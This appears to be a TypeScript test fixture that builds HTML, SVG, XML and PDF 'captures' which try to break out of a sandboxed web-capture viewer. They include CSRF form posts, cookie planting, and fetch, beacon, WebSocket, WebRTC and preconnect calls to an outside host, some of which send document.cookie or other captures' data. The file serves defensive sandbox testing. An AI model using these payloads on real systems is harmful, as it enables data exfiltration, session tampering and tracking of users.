/** The origins that captures try to reach. Every request to one contains `attacked`. */
export interface Targets {
  /** An unrelated one, on this machine. */
  readonly third: string
  readonly app: string
  /** The origin of another capture, which is unknown to captures in reality. */
  readonly other: string
}

/** A capture that attempts something. */
export interface HostileCapture {
  /** By their paths below its folder. */
  readonly files: Readonly<Record<string, string | Buffer>>
  /** The file that is opened. */
  readonly page: string
  /** The target that it reaches without protection; undefined: none in this browser. */
  readonly reaches?: keyof Targets
  /** Whether it shows the picture beside it. */
  readonly isPage: boolean
}

export const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')
const SHEET = '#mark { color: rgb(1, 2, 3) }'

/** Proves that a page is shown: a picture, a style and the end of its text. */
const marked = (body: string, head = '') => `<!doctype html><html><head><meta charset="utf-8">
<link rel="stylesheet" href="ok.css">${head}</head><body><h1 id="mark">Ferry</h1><img id="ok" src="ok.gif">
${body}
<p id="end">The end</p></body></html>`

type Reached = HostileCapture['reaches']

/** Captures that try to reach a target, by what they attempt. */
export function hostileCaptures({ third, app, other }: Targets): Readonly<Record<string, HostileCapture>> {
  const host = third.slice('http://'.length)
  const page = (text: string | Buffer, reaches?: Reached, more: Readonly<Record<string, string | Buffer>> = {}) => ({
    files: { 'html/output.html': text, 'html/ok.gif': PIXEL, 'html/ok.css': SHEET, ...more },
    page: 'html/output.html',
    isPage: true,
    ...(reaches && { reaches }),
  })
  const body = (text: string, reaches: Reached = 'third') => page(marked(text), reaches)
  const head = (text: string, reaches: Reached = 'third') => page(marked('', text), reaches)
  const script = (code: string, reaches: Reached = 'third') => body(`<script>${code}</script>`, reaches)
  const file = (name: string, text: string | Buffer, reaches?: Reached, more = {}) => ({
    files: { [name]: text, ...more },
    page: name,
    isPage: false,
    ...(reaches && { reaches }),
  })
  const tell = (what: string) => `fetch('${third}/attacked?' + (${what}), { mode: 'no-cors' })`
  const preconnect = `<link rel=preconnect href=${third}>`
  const coded = (text: string) => [...text].map((char) => `&#${char.charCodeAt(0)};`).join('')
  return {
    // The app and the session.
    'posts a form to the app': body(
      `<form id="f" method="post" action="${app}/logout?attacked"></form><script>f.submit()</script>`,
      'app',
    ),
    'posts a form to the app, from the top': body(
      `<form id="f" method="post" target="_top" action="${app}/logout?attacked"></form><script>f.submit()</script>`,
      'app',
    ),
    'asks the app': script(`fetch('${app}/?attacked', { credentials: 'include', mode: 'no-cors' })`, 'app'),
    'changes the app': script(`navigator.sendBeacon('${app}/logout?attacked', new URLSearchParams('a=b'))`, 'app'),
    'shows pictures of the app': body(`<img src="${app}/?attacked">`, 'app'),
    'shows the app in a frame': body(`<iframe src="${app}/?attacked"></iframe>`, 'app'),
    'shows the app in an object': body(
      `<object data="${app}/?attacked"></object><embed src="${app}/?attacked">`,
      'app',
    ),
    'runs scripts of the app': body(`<script src="${app}/assets/x.js?attacked"></script>`, 'app'),
    'leads to the app': head(`<meta http-equiv="refresh" content="0;url=${app}/?attacked">`, 'app'),
    'leads the top elsewhere': script(`top.location = '${third}/attacked'`),
    'leads the opener elsewhere': script(`if (opener) opener.location = '${third}/attacked'; ${tell('!!opener')}`),
    'plants cookies': script(
      `for (const at of ['', '; domain=localhost', '; domain=.localhost', '; domain=${new URL(app).hostname}'])
         document.cookie = 'abx_planted=evil; path=/' + at
       ${tell('document.cookie')}`,
    ),
    'reads the parent': script(`let text = 'no'; try { text = parent.document.title } catch {} ${tell('text')}`),
    // Other captures.
    'asks another capture': script(
      `fetch('${other}/title/title.txt?attacked').then((a) => a.text()).then((text) => ${tell('text')})`,
      'other',
    ),
    'shows pictures of another capture': body(`<img src="${other}/html/ok.gif?attacked">`, 'other'),
    'shows another capture in a frame': body(`<iframe src="${other}/title/title.txt?attacked"></iframe>`, 'other'),
    'has styles of another capture': head(`<link rel="stylesheet" href="${other}/html/ok.css?attacked">`, 'other'),
    'keeps something for another capture': script(
      `localStorage.setItem('evil', '1'); new BroadcastChannel('evil').postMessage('hello')
       caches.open('evil').then((cache) => cache.put('/x', new Response('evil')))
       indexedDB.open('evil'); ${tell('localStorage.length')}`,
    ),
    // Scripts.
    asks: script(tell('1')),
    'asks as programs did': script(`const x = new XMLHttpRequest(); x.open('GET', '${third}/attacked'); x.send()`),
    'sends a beacon': script(`navigator.sendBeacon('${third}/attacked', 'x')`),
    'opens a WebSocket': script(`new WebSocket('ws://${host}/attacked')`),
    'opens an EventSource': script(`new EventSource('${third}/attacked')`),
    'opens WebRTC': script(
      `const peer = new RTCPeerConnection({ iceServers: [
         { urls: 'turn:${host}?transport=tcp', username: 'u', credential: 'c' }, { urls: 'stun:${host}' }] })
       peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
    ),
    'has a worker': script(`new Worker(URL.createObjectURL(new Blob([\`${tell('1')}\`])))`),
    'has a worker of its own': page(marked(`<script>new Worker('w.js')</script>`), 'third', { 'html/w.js': tell('1') }),
    'has a shared worker': page(marked(`<script>new SharedWorker('w.js')</script>`), 'third', {
      'html/w.js': tell('1'),
    }),
    'has a service worker': page(marked(`<script>navigator.serviceWorker.register('w.js')</script>`), 'third', {
      'html/w.js': tell('1'),
    }),
    'has a module': page(marked(`<script type="module" src="w.js"></script>`), 'third', { 'html/w.js': tell('1') }),
    'has a worklet': script(`CSS.paintWorklet?.addModule('${third}/attacked'); ${tell('1')}`),
    'has handlers': body(`<img src="x" onerror="${tell('1')}"><svg onload="${tell('2')}"></svg>`),
    'opens a window': script(`open('${third}/attacked'); location = '${third}/attacked'`),
    'has rules of speculation': head(
      `<script type="speculationrules">
       {"prefetch": [{"urls": ["${third}/attacked"], "eagerness": "immediate"}]}</script>`,
    ),
    'has frames with scripts': body(
      `<iframe srcdoc="<script>${tell('1')}</script>"></iframe><iframe src="javascript:${tell('2')}"></iframe>
       <iframe src="data:text/html,<script>${tell('3')}</script>"></iframe>`,
    ),
    // Without scripts.
    'refreshes to elsewhere': head(`<meta http-equiv="refresh" content="0;url=${third}/attacked">`),
    'refreshes to elsewhere, as HTML does not say': head(
      `<META/HTTP-EQUIV=&#114;efresh CONTENT="0; url='${third}/attacked'">
       <meta http-equiv=refresh http-equiv=x content=1>`,
    ),
    'connects ahead': head(preconnect),
    'connects ahead from the body': body(preconnect),
    'connects ahead in capitals': head(`<LINK/REL='PRECONNECT'HREF='${third}'>`),
    'connects ahead with a reference': head(`<link rel="pre&#99;onnect" href="${third}">`),
    'connects ahead among others': head(`<link rel="icon dns-prefetch preconnect stylesheet" href="${third}">`),
    'connects ahead twice': head(`<link rel=stylesheet rel=preconnect href="x"><link href="${third}" rel=preconnect>`),
    'connects ahead behind a comment': body(`<!-- <p title="--><link rel=preconnect href=${third}>">`),
    'connects ahead from a style': body(
      `<svg><style><a title="</style>${preconnect}"></style></svg><math><style>${preconnect}</style></math>`,
    ),
    'connects ahead from a template': body(
      `<div><template shadowrootmode="open"><p>shade</p>${preconnect}</template></div>
       <template>${preconnect}</template>`,
    ),
    'connects ahead without scripts': body(`<noscript>${preconnect}</noscript>${preconnect}`),
    'connects ahead in a frame': body(`<iframe srcdoc="${coded(preconnect)}"></iframe>`),
    'connects ahead in a frame in a frame': body(
      `<iframe srcdoc='<iframe srcdoc="${coded(coded(preconnect))}"></iframe>${coded(preconnect)}'></iframe>`,
    ),
    'connects ahead behind a frame that is none': body(
      `<link x='<iframe srcdoc="'>">' rel=preconnect href=${third}>
       <iframe x='<iframe srcdoc="'>">' src=${third}></iframe>${preconnect}`,
    ),
    'connects ahead in data': body(`<iframe src="data:text/html,${encodeURIComponent(preconnect)}"></iframe>`),
    'connects ahead in UTF-16': page(Buffer.from(`\ufeff${marked('', preconnect)}`, 'utf16le'), 'third'),
    'connects ahead in ISO-2022-JP': page(
      marked('', preconnect.replace('<li', '<li\x1b(B').replace('rel', 're\x1b(Bl')).replace('utf-8', 'iso-2022-jp'),
      'third',
    ),
    'connects ahead from a long tag': head(`<link ${'x '.repeat(50_000)} rel=preconnect href=${third}>`),
    'connects ahead behind many tags': body(`${'<a x="<link y=\''.repeat(20_000)}'">${'"\'>'}${preconnect}`),
    'fetches ahead': head(
      `<link rel="prefetch" href="${third}/attacked"><link rel="preload" as="image" href="${third}/attacked">
       <link rel="modulepreload" href="${third}/attacked"><link rel="prerender" href="${third}/attacked">`,
    ),
    'has a manifest and an icon': head(
      `<link rel="icon" href="${third}/attacked"><link rel="manifest" href="${third}/attacked">`,
    ),
    'has another base': page(
      `<!doctype html><base href="${third}/attacked/"><link rel="stylesheet" href="ok.css"><h1 id="mark">Ferry</h1>
       <img id="ok" src="ok.gif"><p id="end">The end</p>`,
      'third',
    ),
    'has pictures elsewhere': body(
      `<img src="${third}/attacked"><img srcset="${third}/attacked 1x">
       <picture><source srcset="//${host}/attacked"><img>
       </picture><input type="image" src="${third}/attacked"><table background="${third}/attacked"></table>`,
    ),
    'has media elsewhere': body(
      `<video src="${third}/attacked" poster="${third}/attacked" autoplay></video>
       <audio src="${third}/attacked" autoplay>
       </audio><video controls><source src="${third}/attacked"><track default src="${third}/attacked"></video>`,
    ),
    'has styles elsewhere': head(
      `<link rel="stylesheet" href="${third}/attacked"><style>@import "${third}/attacked";
       @font-face { font-family: f; src: url(${third}/attacked) } #mark { font-family: f;
       background: url(//${host}/attacked); cursor: url(${third}/attacked), auto;
       mask: url(${third}/attacked#x); filter: url(${third}/attacked#x);
       border-image: image-set("${third}/attacked" 1x) }</style>`,
    ),
    'has frames elsewhere': body(
      `<iframe src="${third}/attacked"></iframe><object data="${third}/attacked"></object>
       <embed src="${third}/attacked">
       <iframe srcdoc="<img src=${third}/attacked>"></iframe>`,
    ),
    'has a frame set': file(
      'html/frames.html',
      `<!doctype html><html><frameset cols="50%,50%"><frame src="${third}/attacked">
       <frame src="ok.html"></frameset></html>`,
      'third',
      { 'html/ok.html': marked(''), 'html/ok.gif': PIXEL, 'html/ok.css': SHEET },
    ),
    'has a frame set of data': file(
      'html/frames.html',
      `<!doctype html><html><frameset cols="50%,50%"><frame src="data:text/html;charset=utf-8;base64,${Buffer.from(
        `${preconnect}<img src="${third}/attacked">`,
      ).toString('base64')}"><frame src="ok.html"></frameset></html>`,
      'third',
      { 'html/ok.html': marked(''), 'html/ok.gif': PIXEL, 'html/ok.css': SHEET },
    ),
    'draws from elsewhere': body(
      `<svg><image href="${third}/attacked"/><use href="${third}/attacked#x"/><filter id="x"><feImage
       href="${third}/attacked"/></filter><rect filter="url(#x)" width="9" height="9"/><image><set attributeName="href"
       to="${third}/attacked"/></image><script href="${third}/attacked"></script></svg>`,
    ),
    // Documents other than HTML.
    'is a drawing that runs': file(
      'html/drawing.svg',
      `<svg xmlns="http://www.w3.org/2000/svg"><script>${tell('1')}</script><image href="${third}/attacked"/></svg>`,
      'third',
    ),
    'is a drawing that connects ahead': file(
      'html/drawing.svg',
      `<!DOCTYPE svg [<!ENTITY e "&#60;x:link xmlns:x='http://www.w3.org/1999/xhtml' rel='preconnect' href='${third}'/&#62;">]>
<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">&e;<rect width="9" height="9"/></svg>`,
      'third',
    ),
    'is a drawing with styles elsewhere': file(
      'html/drawing.svg',
      `<?xml-stylesheet href="${third}/attacked"?><svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>`,
      'third',
    ),
    'is XML that becomes a page': file(
      'html/feed.xml',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="sheet.xsl"?><feed/>`,
      'third',
      {
        'html/sheet.xsl': `<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">
          <html><body><img src="${third}/attacked"/></body></html></x:template></x:stylesheet>`,
      },
    ),
    'is XML with scripts': file(
      'html/feed.xml',
      `<feed><script xmlns="http://www.w3.org/1999/xhtml">${tell('1')}</script></feed>`,
      'third',
    ),
    'is XHTML that connects ahead': file(
      'html/page.xhtml',
      `<!DOCTYPE html [<!ENTITY e "&#60;link rel='preconnect' href='${third}'/&#62;">]>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><p>Ferry</p>&e;</body></html>`,
      'third',
    ),
    'is a picture that is a page': file('html/picture.png', `<script>${tell('1')}</script>`),
    'is a text that is a page': file('html/text.txt', `<html><script>${tell('1')}</script>`),
    'is a page in UTF-7': file('html/utf7.html', `<meta charset="utf-7">+ADw-script+AD4-${tell('1')}+ADw-/script+AD4-`),
    'is a PDF that asks': file('pdf/output.pdf', hostilePdf(third)),
    'is a PDF that is a page': file('pdf/output.pdf', `<html><script>${tell('1')}</script>%PDF-1.4`),
  }
}

/**
 * A page that is one large link to `/asked`, which would report its location there, and let that page navigate this
 * one.
 */
export function leadingElsewhere(third: string): HostileCapture['files'] {
  return {
    'html/output.html': `<!doctype html><meta name="referrer" content="unsafe-url"><a id="out" href="${third}/asked"
      target="a-name" rel="opener" referrerpolicy="unsafe-url" ping="${third}/ping"
      style="position: fixed; inset: 0">out</a>`,
  }
}

/** A PDF that runs a script, navigates and sends a form when it opens. */
function hostilePdf(third: string): string {
  const objects = [
    '<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WP 5 0 R>>/Names<</JavaScript<</Names[(a) 6 0 R]>>>>>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O 5 0 R>>>>',
    `<</S/URI/URI(${third}/attacked)/Next 5 0 R>>`,
    `<</S/SubmitForm/F<</FS/URL/F(${third}/attacked)>>/Flags 4/Next 6 0 R>>`,
    `<</S/JavaScript/JS(app.launchURL\\("${third}/attacked", true\\); this.submitForm\\("${third}/attacked"\\);)>>`,
  ]
  let text = '%PDF-1.7\n'
  const places = objects.map((object, at) => {
    const place = text.length
    text += `${at + 1} 0 obj\n${object}\nendobj\n`
    return `${String(place).padStart(10, '0')} 00000 n \n`
  })
  const start = text.length
  return `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}trailer\n<</Size ${
    objects.length + 1
  }/Root 1 0 R>>\nstartxref\n${start}\n%%EOF\n`
}
